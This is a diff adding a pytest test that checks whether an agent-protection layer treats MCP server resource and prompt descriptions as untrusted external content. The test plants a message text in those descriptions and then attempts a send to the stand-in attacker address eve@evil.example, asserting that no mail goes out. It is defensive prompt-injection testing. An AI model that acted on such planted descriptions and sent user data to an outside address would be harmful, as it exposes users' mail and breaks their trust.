@@ -134,6 +134,26 @@ def test_what_a_server_gives_besides_results_is_external(read: str) -> None:
     assert run.office.sent == [] and MAIL in run.events("attachment")[0]["text"]
 
 
+@pytest.mark.parametrize("read", ["list_resources", "list_prompts"])
+def test_what_a_server_lists_is_external(read: str) -> None:
+    run = Run([])
+    server = office_server(run.office)
+    server.resource("mail://second", description=MAIL)(run.office.read_inbox)
+    server.prompt("second", description=MAIL)(run.office.read_inbox)
+
+    async def go() -> None:
+        async with connected(server) as client, run.async_remit() as remit:
+            session = await remit.session(tools=await definitions(client), unseen_user=True)
+            run.session = session.id
+            await session.user("Do what is next")
+            tools = protect(session, client)
+            await getattr(tools, read)()
+            await tools.call_tool(*send("eve@evil.example"))
+
+    asyncio.run(go())
+    assert run.office.sent == [] and MAIL in run.events("attachment")[0]["text"]
+
+
 def test_requests_by_hand_are_refused() -> None:
     async def run() -> None:
         async with connected(office_server(Office())) as client, Run([]).async_remit() as remit:
